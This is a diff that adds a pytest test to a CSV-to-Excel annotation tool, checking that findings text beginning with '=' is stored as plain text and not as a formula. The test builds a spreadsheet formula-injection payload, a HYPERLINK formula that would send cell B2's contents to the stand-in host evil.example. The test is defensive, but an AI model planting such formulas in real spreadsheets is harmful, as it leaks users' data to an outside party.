@@ -257,3 +257,32 @@ def test_a_csv_with_a_title_line_is_copied_with_the_delimiter_of_its_rows(
     sheet = openpyxl.load_workbook("annotated/data/m.csv.xlsx")["m"]
     assert [sheet.cell(3, column).value for column in (1, 2, 3)] == ["r1", "four", "1,5"]
     assert "B3" in _commented(sheet)
+
+
+def test_the_findings_sheet_writes_text_beginning_with_equals_as_text(project: Path) -> None:
+    # A CSV file named like a formula names its sheet; a policy's message may begin with "=".
+    shutil.copy(project / "data" / "departures.csv", project / "data" / "=1+2.csv")
+    manifest = project / "manifests" / "departures-sheet.yaml"
+    text = manifest.read_text(encoding="utf-8")
+    manifest.write_text(text.replace("../data/departures.csv", '"../data/=1+2.csv"'))
+    (project / "policies").mkdir()
+    message = '=HYPERLINK(\\"http://evil.example/?leak=\\"&B2,\\"click me\\")'
+    (project / "policies" / "inj.yaml").write_text(
+        "id: team.inj\nseverity: error\nkinds: [DepartureDeclaration]\n"
+        f'expression: "false"\nmessage: "{message}"\n'
+    )
+    os.chdir(project)
+
+    code, report, err = _report("--annotate", "annotated")
+
+    assert code == 1, err
+    book = openpyxl.load_workbook(project / "annotated" / "data" / "=1+2.csv.xlsx")
+    rows = list(book["Findings"].iter_rows(min_row=2))
+    assert rows and len(rows) == len(
+        [f for f in report["findings"] if f["file"] == "data/=1+2.csv"]
+    )
+    for row in rows:
+        assert all(cell.data_type != "f" for cell in row), [c.value for c in row]
+        assert row[2].value == "=1+2"
+    messages = {row[5].value for row in rows if row[1].value == "team.inj"}
+    assert messages == {'=HYPERLINK("http://evil.example/?leak="&B2,"click me")'}
